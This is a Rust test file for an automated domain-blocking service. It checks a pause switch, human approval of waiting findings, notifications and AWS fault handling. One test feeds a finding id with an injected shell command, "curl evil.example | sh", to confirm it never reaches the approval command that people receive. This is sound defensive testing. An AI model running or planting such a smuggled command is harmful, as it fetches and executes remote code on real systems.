//! One switch stops everything that nobody asked for, and people are told what waits for them.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::time::Duration;

use falconer_domain::policy::{Pause, Switch};
use falconer_tests::findings::falcon;
use falconer_tests::house::House;
use serde_json::{Value, json};

fn paused() -> Switch {
    Switch::Paused(Pause { since: "2026-01-15T10:00:00Z".parse().unwrap(), reason: "case 42".to_owned() })
}

fn manual() -> Value {
    json!({ "indicators": [{ "type": "domain", "value": "chosen.example" }], "reason": "case 42", "ttl": "1h" })
}

#[tokio::test(start_paused = true)]
async fn while_paused_a_finding_waits_and_says_why_and_what_a_person_starts_goes_on() {
    let house = House::open().await;
    house.set_switch(&paused()).await;
    let finding = falcon("falcon-1", "domain", "evil.example");
    house.import(&finding).await;
    house.success().await;
    assert!(house.blocked().await.is_empty());
    let (state, note) = house.told("falcon-1").await;
    assert_eq!(state, "Waiting");
    assert!(note.contains("automatic acts are paused since 2026-01-15 10:00 UTC (case 42)"), "{note}");
    assert!(house.run(&manual()).await.succeeded());
    house.choose(&finding).await;
    house.endings().await;
    assert_eq!(house.blocked().await, ["chosen.example", "evil.example"]);
    assert_eq!(house.told("falcon-1").await.0, "Blocked");
}

#[tokio::test(start_paused = true)]
async fn a_resume_lets_the_next_finding_act_within_seconds() {
    let house = House::open().await;
    house.set_switch(&paused()).await;
    house.import(&falcon("falcon-1", "domain", "first.example")).await;
    house.endings().await;
    house.set_switch(&Switch::On).await;
    house.import(&falcon("falcon-2", "domain", "second.example")).await;
    house.endings().await;
    assert_eq!(house.blocked().await, ["second.example"]);
}

#[tokio::test(start_paused = true)]
async fn a_pause_stops_what_is_planned_and_not_yet_blocked() {
    let house = House::open().await;
    house.fault(json!({ "operation": "states.SendTaskSuccess", "fault": "delay:5000", "times": 1 })).await;
    house.import(&falcon("falcon-1", "domain", "evil.example")).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    house.set_switch(&paused()).await;
    let ending = house.failure().await;
    assert_eq!(ending.error.as_deref(), Some("Policy.Paused"));
    assert!(house.blocked().await.is_empty());
    let (state, note) = house.told("falcon-1").await;
    assert_eq!(state, "Failed");
    assert!(note.contains("Policy.Paused") && note.contains("case 42"), "{note}");
}

#[tokio::test(start_paused = true)]
async fn without_a_switch_nothing_acts_by_itself() {
    let house = House::open().await;
    house.delete_switch().await;
    house.import(&falcon("falcon-1", "domain", "evil.example")).await;
    house.success().await;
    assert!(house.blocked().await.is_empty());
    let note = house.told("falcon-1").await.1;
    assert!(note.contains("missing or unreadable (`falconer resume` writes it anew)"), "{note}");
    assert!(house.run(&manual()).await.succeeded());
}

#[tokio::test(start_paused = true)]
async fn a_switch_that_may_not_be_read_fails_the_finding_and_never_a_person() {
    let house = House::open().await;
    house.fault(json!({ "operation": "ssm.GetParameter", "fault": "error:AccessDeniedException" })).await;
    house.import(&falcon("falcon-1", "domain", "evil.example")).await;
    let ending = house.failure().await;
    assert_eq!(ending.error.as_deref(), Some("Switch.AccessDenied"));
    assert!(ending.cause.unwrap().contains("Grant ssm:GetParameter"));
    assert!(house.blocked().await.is_empty());
    assert_eq!(house.told("falcon-1").await.0, "Failed");
    assert!(house.run(&manual()).await.succeeded());
}

#[tokio::test(start_paused = true)]
async fn a_throttled_switch_is_read_again() {
    let house = House::open().await;
    house.fault(json!({ "operation": "ssm.GetParameter", "fault": "throttle", "times": 7 })).await;
    house.import(&falcon("falcon-1", "domain", "evil.example")).await;
    house.success().await;
    assert_eq!(house.blocked().await, ["evil.example"]);
}

#[tokio::test(start_paused = true)]
async fn many_findings_at_once_read_the_switch_a_few_times() {
    let house = House::open().await;
    for number in 0..50 {
        house.import(&falcon(&format!("falcon-{number}"), "domain", &format!("d{number}.example"))).await;
    }
    house.endings().await;
    let reads = house.calls("ssm.GetParameter").await;
    assert!((1..=10).contains(&reads), "{reads} reads");
}

#[tokio::test(start_paused = true)]
async fn while_paused_blocks_do_not_expire_and_afterwards_they_do() {
    let house = House::open().await;
    assert!(house.run(&manual()).await.succeeded());
    house.set_switch(&paused()).await;
    tokio::time::sleep(Duration::from_secs(2 * 60 * 60)).await;
    assert_eq!(house.blocked().await, ["chosen.example"]);
    let endings = house.endings_of("expire-blocks").await;
    let last = endings.last().unwrap();
    assert!(last.succeeded(), "{last:#?}");
    assert!(last.output["expired"]["paused"].as_str().unwrap().contains("case 42"));
    house.set_switch(&Switch::On).await;
    tokio::time::sleep(Duration::from_secs(20 * 60)).await;
    assert!(house.blocked().await.is_empty());
}

#[tokio::test(start_paused = true)]
async fn what_waits_is_sent_to_people_with_the_command_that_approves_it() {
    let house = House::open().await;
    let mut finding = falcon("falcon-1", "domain", "evil.example,worse.example");
    finding["Severity"] = json!({ "Label": "INFORMATIONAL" });
    house.import(&finding).await;
    house.success().await;
    let notifications = house.notifications().await;
    assert_eq!(notifications.len(), 1, "{notifications:#?}");
    assert_eq!(notifications[0]["Subject"], "Falconer: a finding waits for a person");
    let message = notifications[0]["Message"].as_str().unwrap();
    for part in ["falcon-1", "its severity is INFORMATIONAL", "falconer blocks add evil.example worse.example --reason"]
    {
        assert!(message.contains(part), "{part} is missing in {message}");
    }
}

#[tokio::test(start_paused = true)]
async fn what_is_blocked_is_not_sent_to_anybody() {
    let house = House::open().await;
    house.import(&falcon("falcon-1", "domain", "evil.example")).await;
    house.success().await;
    assert!(house.notifications().await.is_empty());
}

#[tokio::test(start_paused = true)]
async fn hostile_text_in_a_finding_is_no_part_of_the_command_that_people_are_sent() {
    let house = House::open().await;
    let mut finding = falcon("falcon-1'; curl evil.example | sh #", "domain", "evil.example");
    finding["Severity"] = json!({ "Label": "INFORMATIONAL" });
    house.import(&finding).await;
    house.success().await;
    let notifications = house.notifications().await;
    let message = notifications[0]["Message"].as_str().unwrap();
    let command = message.lines().find(|line| line.contains("falconer blocks add")).unwrap();
    assert!(!command.contains("curl"), "{command}");
}

#[tokio::test(start_paused = true)]
async fn a_topic_that_is_throttled_gets_the_message_later_and_one_that_is_gone_is_a_named_failure() {
    let house = House::open().await;
    let waiting = |id: &str| {
        let mut finding = falcon(id, "domain", "evil.example");
        finding["Severity"] = json!({ "Label": "INFORMATIONAL" });
        finding
    };
    house.fault(json!({ "operation": "sns.Publish", "fault": "throttle", "times": 3 })).await;
    house.import(&waiting("falcon-1")).await;
    house.success().await;
    assert_eq!(house.notifications().await.len(), 1);
    house.fault(json!({ "operation": "sns.Publish", "fault": "error:NotFound" })).await;
    house.import(&waiting("falcon-2")).await;
    let ending = &house.endings().await[1];
    assert_eq!(ending.error.as_deref(), Some("SNS.NotFoundException"), "{ending:#?}");
    assert_eq!(house.told("falcon-2").await.0, "Waiting");
}
